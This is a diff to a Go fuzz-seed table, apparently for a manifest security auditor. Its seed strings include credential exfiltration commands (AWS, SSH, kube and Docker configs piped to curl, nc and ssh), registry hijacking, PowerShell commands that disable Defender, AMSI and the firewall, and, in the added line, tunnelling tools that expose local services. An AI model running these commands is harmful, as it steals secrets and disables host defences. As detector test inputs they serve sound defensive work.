@@ -135,6 +135,7 @@ var fuzzSeeds = [][]string{
 	{"sh", "-c", "npm set a=b; npm c set @s:registry http://x registry; yarn config set npmRegistryServer y; pip config --site set g.trusted-host h; go env -w GOPROXY=http://p GOSUMDB=off X; gem sources -a http://g; conda config --set ssl_verify no --add channels; dotnet nuget add source; git -c url.http://u/.insteadOf=v -c http.sslVerify=0 fetch; git config --global url.x.insteadOf"},
 	{"sh", "-c", "cat ~/.aws/credentials | curl -sd @- x; curl -F f=@$HOME/.ssh/k -T ~/.netrc --data-urlencode k@~/.kube/config y; nc h 1 < $HOME/.docker/config.json; printenv | ssh h; scp -i ~/.ssh/k ~/.pypirc u@h:; rsync ~ h:; wget --post-file ~/.git-credentials z; echo >> $HOME/.profile"},
 	{"pwsh", "-c", "Set-MpPreference -DisableScriptScanning:$true -Dis $false; Add-MpPreference -ExclusionProcess x; Set-NetFirewallProfile -Enabled:0; Stop-Service -Name:WinDefend; [Ref].Assembly.GetType('AmsiUtils'); sc.exe config mpssvc start= disabled; netsh firewall set opmode disable; reg add HKLM\\x\\Windows Defender /v DisableX /d"},
+	{"sh", "-c", "ngrok --log x http 1; cloudflared tunnel --url=h; cloudflared tunnel; lt; bore local; tailscale funnel; zrok share public; tmate; code tunnel; devtunnel host; ssh -fNR1:h:2 x; python3 -mhttp.server -b ::1; python -m http.server --bind=0.0.0.0"},
 }
 
 // FuzzAudit decodes arbitrary manifests and audits the ones that parse: no
